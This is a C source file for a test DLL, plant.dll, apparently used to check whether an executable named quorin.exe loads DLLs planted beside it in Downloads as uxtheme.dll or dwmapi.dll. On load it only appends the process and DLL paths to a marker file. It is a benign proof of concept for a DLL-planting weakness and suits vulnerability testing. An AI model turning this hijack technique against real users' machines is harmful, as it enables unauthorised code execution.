/*
 * plant.dll: what a web page could drop into Downloads beside quorin.exe,
 * copied there as uxtheme.dll and dwmapi.dll.  Once loaded it appends one
 * line to C:\plant-marker.txt, "<the process's exe><TAB><this DLL's path>",
 * and stays; a system DLL that wanted the real one finds none of its
 * functions.
 */
#include <windows.h>

BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID reserved)
{
    char line[2 * MAX_PATH + 2];
    DWORD exeLen, dllLen, written;
    HANDLE marker;
    (void)reserved;
    if (reason != DLL_PROCESS_ATTACH)
        return TRUE;
    exeLen = GetModuleFileNameA(NULL, line, MAX_PATH);
    line[exeLen++] = '\t';
    dllLen = GetModuleFileNameA(self, line + exeLen, MAX_PATH);
    line[exeLen + dllLen] = '\n';
    /* FILE_APPEND_DATA alone: every process's line lands whole at the end. */
    marker = CreateFileA("C:\\plant-marker.txt", FILE_APPEND_DATA, FILE_SHARE_READ | FILE_SHARE_WRITE,
                         NULL, OPEN_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    if (marker != INVALID_HANDLE_VALUE) {
        WriteFile(marker, line, exeLen + dllLen + 1, &written, NULL);
        CloseHandle(marker);
    }
    return TRUE;
}
